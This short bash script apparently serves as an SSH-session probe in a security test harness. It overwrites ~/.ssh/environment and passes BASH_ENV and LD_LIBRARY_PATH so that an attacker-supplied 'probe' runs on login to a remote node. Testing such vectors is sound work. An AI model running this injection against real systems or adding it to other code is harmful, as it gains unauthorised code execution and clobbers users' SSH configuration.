#!/bin/bash
# title: ~/.ssh/environment
# door: ssh
printf '"%s/probe"\n' "$ATTACK" >"$WORK/start"
cat >"$WORK/environment" <<END
BASH_ENV=$ATTACK/environment-start
LD_LIBRARY_PATH=$WORK
HOME=/home/alice
END
cp "$WORK/start" "$ATTACK/environment-start"
mv "$WORK/environment" ~/.ssh/environment
ssh -o BatchMode=yes -o SetEnv="BASH_ENV=$WORK/start" "$USER@$NODE" 'echo "tried: a session with an environment of its own"; "$ATTACK/probe"; ls ~/..' 2>/dev/null
